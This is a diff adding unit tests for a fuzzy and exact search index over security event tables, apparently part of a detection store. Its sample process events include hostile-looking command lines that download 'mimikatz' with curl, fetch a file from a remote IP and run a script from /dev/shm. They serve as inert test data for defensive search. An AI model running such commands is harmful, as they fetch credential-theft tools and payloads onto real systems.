@@ -1,0 +1,103 @@
+// Unit tests of the secondary index on a bare DuckDB with the store's DDL: each probe kind, the cases where it must
+// step aside (non-ASCII text, too frequent values), and consistency after rows are deleted (retention).
+
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { DuckDBInstance, listValue, type DuckDBConnection } from '@duckdb/node-api';
+import { createTableSql, eventTables } from './ddl.js';
+import { createEventIndex, withinDistance } from './event-index.js';
+
+const PROCESS = eventTables.findIndex((t) => t.table === 'events_process');
+const NETWORK = eventTables.findIndex((t) => t.table === 'events_network');
+
+async function openDb(): Promise<{ db: DuckDBConnection; close: () => void }> {
+  const instance = await DuckDBInstance.create(':memory:', { threads: '1' });
+  const db = await instance.connect();
+  for (const spec of eventTables) await db.run(createTableSql(spec));
+  return { db, close: () => (db.closeSync(), instance.closeSync()) };
+}
+
+let sequence = 0;
+async function insertProcess(db: DuckDBConnection, name: string, commandLine: string, hash: string, args: string[] = []): Promise<void> {
+  sequence++;
+  await db.run(
+    `INSERT INTO events_process ("@timestamp", "event.id", "event.sequence", "event.category", "event.action", "host.id", "process.pid", "process.name", "process.command_line", "process.hash.sha256", "process.args", "event.ingested")
+     VALUES (now()::TIMESTAMP, $1, $2, 'process', 'start', 'h1', $2, $3, $4, $5, $6::VARCHAR[], now()::TIMESTAMP)`,
+    [`e${sequence}`, sequence, name, commandLine, hash, args.length ? listValue(args) : null],
+  );
+}
+
+const rowsOf = (answer: ReturnType<ReturnType<typeof createEventIndex>['lookup']>, table: number) => (answer ? Array.from(answer.get(table) ?? []) : undefined);
+
+test('equals, contains and fuzzy probes return exactly the matching rows', async () => {
+  const { db, close } = await openDb();
+  try {
+    await insertProcess(db, 'Bash', '/bin/bash -c "curl http://x/mimikatz"', 'ab'.repeat(32), ['bash', '-c']);
+    await insertProcess(db, 'curl', 'curl -sO http://203.0.113.7/x', 'cd'.repeat(32));
+    await insertProcess(db, 'python3', 'python3 /dev/shm/run.py', 'AB'.repeat(32));
+    const index = createEventIndex({ minStop: 100 });
+    await index.catchUp(db);
+    const scope = [PROCESS, NETWORK];
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'equals', field: 'process.name', values: ['bash'], ignoreCase: true }, scope), PROCESS), [0]);
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'equals', field: 'process.args', values: ['-c'], ignoreCase: true }, scope), PROCESS), [0], 'a list element');
+    // Hash fields compare exactly: the upper-case hash stored in row 2 is not the lower-case one asked for.
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'equals', field: 'process.hash.sha256', values: ['ab'.repeat(32)], ignoreCase: false }, scope), PROCESS), [0]);
+    assert.equal(index.lookup({ kind: 'equals', field: 'process.hash.sha256', values: ['ab'.repeat(32)], ignoreCase: true }, scope), undefined, 'a case-insensitive probe on an exact dictionary');
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'contains', field: 'process.command_line', needle: 'http://' }, scope), PROCESS), [0, 1]);
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'contains', field: 'process.command_line', needle: '/dev/shm/' }, scope), PROCESS), [2]);
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'contains', field: 'process.command_line', needle: 'nowhere' }, scope), PROCESS), []);
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'fuzzy', term: 'mimikats', distance: 1 }, scope), PROCESS), [0]);
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'fuzzy', term: 'Mimikatz', distance: 0 }, scope), PROCESS), [], 'tokens are lower-cased, the term is not');
+    assert.equal(index.lookup({ kind: 'fuzzy', term: 'ab', distance: 2 }, scope), undefined, 'a term no longer than the distance matches empty tokens');
+  } finally {
+    close();
+  }
+});
+
+test('the index steps aside for non-ASCII text and for values too frequent to keep', async () => {
+  const { db, close } = await openDb();
+  try {
+    for (let i = 0; i < 30; i++) await insertProcess(db, 'sh', `sh -c job${i}`, 'ef'.repeat(32));
+    await insertProcess(db, 'straße', 'echo straße', '01'.repeat(32));
+    const index = createEventIndex({ minStop: 10, stopFraction: 0.1 });
+    await index.catchUp(db);
+    const scope = [PROCESS];
+    assert.equal(index.lookup({ kind: 'equals', field: 'process.name', values: ['sh'], ignoreCase: true }, scope), undefined, 'a stopped value');
+    assert.equal(index.lookup({ kind: 'equals', field: 'process.name', values: ['strasse'], ignoreCase: true }, scope), undefined, 'a field holding non-ASCII text');
+    assert.equal(index.lookup({ kind: 'fuzzy', term: 'echo', distance: 1 }, scope), undefined, 'a table holding non-ASCII text');
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'equals', field: 'process.hash.sha256', values: ['01'.repeat(32)], ignoreCase: false }, scope), PROCESS), [30]);
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'fuzzy', term: 'echo', distance: 1 }, [NETWORK]), NETWORK), [], 'other tables still answer');
+  } finally {
+    close();
+  }
+});
+
+test('after rows are deleted (retention) the next catch-up rebuilds, so answers match the table again', async () => {
+  const { db, close } = await openDb();
+  try {
+    for (let i = 0; i < 5; i++) await insertProcess(db, `p${i}`, `run p${i}`, 'aa'.repeat(32));
+    const index = createEventIndex();
+    await index.catchUp(db);
+    assert.deepEqual(rowsOf(index.lookup({ kind: 'equals', field: 'process.name', values: ['p3'], ignoreCase: true }, [PROCESS]), PROCESS), [3]);
+    await db.run(`DELETE FROM events_process WHERE "process.name" IN ('p0', 'p3')`);
+    await insertProcess(db, 'p5', 'run p5', 'aa'.repeat(32));
+    await index.catchUp(db);
+    const expected = async (name: string) =>
+      (await db.runAndReadAll(`SELECT rowid FROM events_process WHERE "process.name" = $1 ORDER BY 1`, [name])).getRows().map((r) => Number(r[0]));
+    for (const name of ['p0', 'p1', 'p3', 'p4', 'p5']) {
+      assert.deepEqual(rowsOf(index.lookup({ kind: 'equals', field: 'process.name', values: [name], ignoreCase: true }, [PROCESS]), PROCESS), await expected(name), name);
+    }
+    assert.equal(index.stats()['index_rows'], 4);
+  } finally {
+    close();
+  }
+});
+
+test('withinDistance is the Levenshtein bound', () => {
+  assert.equal(withinDistance('mimikatz', 'mimikats', 1), true);
+  assert.equal(withinDistance('mimikatz', 'mimikats', 0), false);
+  assert.equal(withinDistance('kitten', 'sitting', 3), true);
+  assert.equal(withinDistance('kitten', 'sitting', 2), false);
+  assert.equal(withinDistance('', 'abc', 3), true);
+  assert.equal(withinDistance('abcdef', 'abc', 2), false);
+});
